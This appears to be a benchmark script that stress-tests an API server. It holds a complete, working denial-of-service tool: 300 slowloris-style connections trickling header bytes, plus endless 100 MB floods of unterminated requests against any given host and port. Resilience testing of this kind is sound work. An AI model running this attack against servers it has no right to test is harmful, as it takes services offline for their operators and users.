"""`python -m benchmarks.api.attack HOST PORT`: slow and endless requests until it is killed.

Keeps 300 connections open that send a header byte by byte, and sends one request line and one header
without end, each again as soon as the server cuts it off and a pause has passed.
"""

from __future__ import annotations

import asyncio
import contextlib
import sys

SLOW_CLIENTS = 300
#: Seconds between two bytes of a slow client, and between two floods of one attacker.
PAUSE_S = 1.0
#: Bytes of one flood, where the server takes so many.
FLOOD = 100 * 2**20
PIECE = b"a" * 65_536


async def trickle(host: str, port: int) -> None:
    """One header, a byte at a time."""
    _, writer = await asyncio.open_connection(host, port)
    try:
        writer.write(b"GET /healthz HTTP/1.1\r\nHost: x\r\nX-A: ")
        while True:
            writer.write(b"a")
            await writer.drain()
            await asyncio.sleep(PAUSE_S)
    finally:
        writer.close()


async def flood(host: str, port: int, beginning: bytes) -> None:
    """`beginning`, and then 100 MB that never end it."""
    _, writer = await asyncio.open_connection(host, port)
    try:
        writer.write(beginning)
        for _ in range(FLOOD // len(PIECE)):
            writer.write(PIECE)
            await writer.drain()
    finally:
        writer.close()
    await asyncio.sleep(PAUSE_S)


async def attack(host: str, port: int) -> None:
    """Until canceled."""

    async def repeat(first: float, *arguments: bytes) -> None:
        await asyncio.sleep(first)
        while True:
            with contextlib.suppress(OSError):
                await (flood(host, port, *arguments) if arguments else trickle(host, port))
            await asyncio.sleep(PAUSE_S)

    async with asyncio.TaskGroup() as group:
        for number in range(SLOW_CLIENTS):
            group.create_task(repeat(number / SLOW_CLIENTS * PAUSE_S))
        group.create_task(repeat(0.0, b"GET /"))
        group.create_task(repeat(0.0, b"GET /healthz HTTP/1.1\r\nHost: x\r\nX-A: "))


if __name__ == "__main__":
    asyncio.run(attack(sys.argv[1], int(sys.argv[2])))
